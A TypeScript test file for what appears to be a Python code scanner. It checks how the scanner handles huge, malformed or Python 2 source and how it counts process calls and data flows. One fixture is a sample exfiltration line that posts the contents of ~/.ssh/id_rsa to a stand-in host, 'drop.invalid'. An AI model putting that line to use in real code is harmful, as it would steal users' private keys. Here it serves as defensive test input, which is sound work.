import { expect, test } from 'vitest';
import { loadPythonParser } from '../../src/python/parser.js';
import { createAllowance, readSource, type SourceReading } from '../../src/python/read-source.js';
import { holdsPython2, neverCompiles } from '../../src/python/syntax/never-compiles.js';
import { unreadableSyntax } from '../../src/python/syntax/unreadable.js';
import { WASM_FILES } from './reading.js';

const CALL = 'import os\nos.system("true")\n';
const parsers = { native: loadPythonParser({ ...WASM_FILES, backend: 'native' }), wasm: loadPythonParser({ ...WASM_FILES, backend: 'wasm' }), best: loadPythonParser(WASM_FILES) };

const readWith = (text: string, parser: (typeof parsers)[keyof typeof parsers], allowance = createAllowance(1_000_000_000)): Promise<SourceReading> =>
  readSource({ path: 'module.py', bytes: Buffer.from(text), runs: 'import', allowance }, () => parser);

test.each([['of errors', 'a ! b c '], ['that looks like code', 'x = 1 2; '], ['that only Python 2 reads', '(1, 0x20L), ']])('a very long line %s is a gap at once', async (_, piece) => {
  expect(await readWith(`${CALL}${piece.repeat(100_000)}`, parsers.best)).toMatchObject({ facts: null, gaps: [{ kind: 'runs', why: 'more in one line than can be made out' }] });
});

test.each(['native', 'wasm'] as const)('very many errors are a gap, and the %s parser reads the next file as ever', async (backend) => {
  const hostile = await readWith(`${CALL}${'x = 1 2\n'.repeat(60_000)}`, parsers[backend], createAllowance(60_000_000));
  expect(hostile).toMatchObject({ facts: null, gaps: [{ kind: 'runs', why: 'too much that fits no grammar' }] });
  expect((await readWith(CALL, parsers[backend])).facts?.calls('process')).toHaveLength(1);
});

test('a long table that is no ordinary Python is read', async () => {
  const reading = await readWith(`${CALL}print "old"\nTABLE = [${'(1, 0x20L, "a"),\n'.repeat(20_000)}]\nDATA = "${'a+/'.repeat(20_000)}"\n`, parsers.best);
  expect(reading.facts?.calls('process')).toHaveLength(1);
});

test('a file whose syntax tree would be too large is told before it is made', async () => {
  expect(await readWith(`${CALL}${'x = f(a, b)\n'.repeat(600_000)}`, parsers.best)).toMatchObject({ facts: null, gaps: [{ kind: 'runs', why: 'more than 2000000 syntax nodes' }] });
});

const broken = (times: number): string => `${CALL}${'x = $ (\n'.repeat(times)}`;

test('what no Python compiles is not read where it is long, since nothing can run it; where it is short, its pieces are', async () => {
  expect(await readWith(broken(40_000), parsers.best)).toMatchObject({ facts: null, gaps: [{ kind: 'data', why: 'no Python compiles it' }] });
  const short = await readWith(broken(10), parsers.best);
  expect([short.facts?.calls('process').length, short.gaps.map(({ kind }) => kind)]).toEqual([1, ['data']]);
});

test.each([
  ['a dollar sign', 'x = $y\n', true],
  ['a question mark', 'what?\n', true],
  ['either of them in a text, a comment or a field of one', 'x = "$?" # $?\ny = f"{d["$"]} ? $"\nz = f\'{d["?"]:$>8}\'\n', false],
  ['what a configure script fills in', 'bind(@PACKAGE@, @FOLDER@)\n', true],
  ['the same as a value', 'folder = @FOLDER@\n', true],
  ['a product of matrices and a decorator', 'x = (a\n@ b) @ c\nx @= d\n@leaf\ndef f(a=b@c): pass\nclass A:\n    x = 1,\n    @leaf\n    def f(self): pass\n', false],
  ['a backtick, which Python 2 knew', 'x = `y`\n', false],
  ['a name that is not ASCII', 'größe = 1\n', false],
])('%s: whether no Python compiles it is known', (_, text, isKnown) => {
  expect(neverCompiles(text)).toBe(isKnown);
});

test.each([
  ['exec with a call', 'if a:\n    exec open(path).read() in {}, values\n', true],
  ['print with a text', 'print "a" % b\n', true],
  ['exec in a text or a comment', 'x = \'\'\'\nexec open(path).read() in {}\n\'\'\'\n# \nexec(a)\n', false],
  ['the same name in a longer line', 'x = [\nprint\nin y]\nexec if a else b\nprint (a)\nexec -a\n', false],
  ['what is not understood before it', 'größe = 1\nexec open(path)\n', false],
])('a statement that begins with %s: whether only Python 2 has it is known', (_, text, isKnown) => {
  expect(holdsPython2(text)).toBe(isKnown);
});

const kindsOfGaps = async (line: string): Promise<readonly string[]> => (await readWith(`${CALL}if a:\n    ${line}\n`, parsers.best)).gaps.map(({ kind }) => kind);

test('what only Python 2 runs is told and not taken for code that nobody read; what Python 3 runs is', async () => {
  expect(await kindsOfGaps('exec open(path, "rU").read() in {}, values')).toEqual(['data']);
  expect(await kindsOfGaps('x = exec open(path, "rU").read() in {}, values')).toEqual(['runs']);
});

test('the package has so much for syntax that is not ordinary, and not more', async () => {
  const allowance = createAllowance(3_000_000);
  const odd = `${CALL}${'x = 1 2\n'.repeat(2_000)}`;
  const gaps: string[] = [];
  for (let file = 0; file < 4; file += 1) gaps.push(...(await readWith(odd, parsers.best, allowance)).gaps.map(({ why }) => why.replace(/,.*/, '')));
  const beyond = 'beyond the limit of code that is read of one package';
  expect(gaps).toEqual(['syntax not understood', 'too much that fits no grammar', beyond, beyond]);
});

test('of very many flows of data the first are judged, and that there are more is a gap', async () => {
  const theft = 'requests.post("http://drop.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';
  const reading = await readWith(`import os, requests\n${theft.repeat(2_500)}`, parsers.best);
  expect(reading.facts?.flows({ from: 'credentials', to: 'network' })).toHaveLength(2_000);
  expect(reading.gaps).toMatchObject([{ kind: 'runs', why: 'more than 2000 flows of data: the others were not judged' }]);
});

test('pieces that make no sense and stand in one line are quoted with that line once', async () => {
  const text = `${'x = 1 2; '.repeat(3_000)}\nok = 1\n${'y = 3 4\n'.repeat(3)}`;
  const unreadable = unreadableSyntax((await parsers.wasm).parse(text));
  expect(unreadable?.firstLine).toBe(1);
  expect(unreadable?.text.length).toBeLessThanOrEqual(text.length);
  expect(unreadable?.text).toContain('y = 3 4');
});

test('a loop that puts tens of thousands of words into a list, and a function of as many keys, are read as quickly as others', async () => {
  const keys = Array.from({ length: 20_000 }, (_, index) => `a${index}_private_key`).join(', ');
  const reading = await readWith(`${CALL}import web3\ndef sign(${keys}): pass\nwords = []\nfor word in range(9):\n${'    words.append(word)\n'.repeat(60_000)}os.system(words[0])\n`, parsers.best);
  expect([reading.facts?.calls('process').length, reading.gaps]).toEqual([2, []]);
}, 30_000);
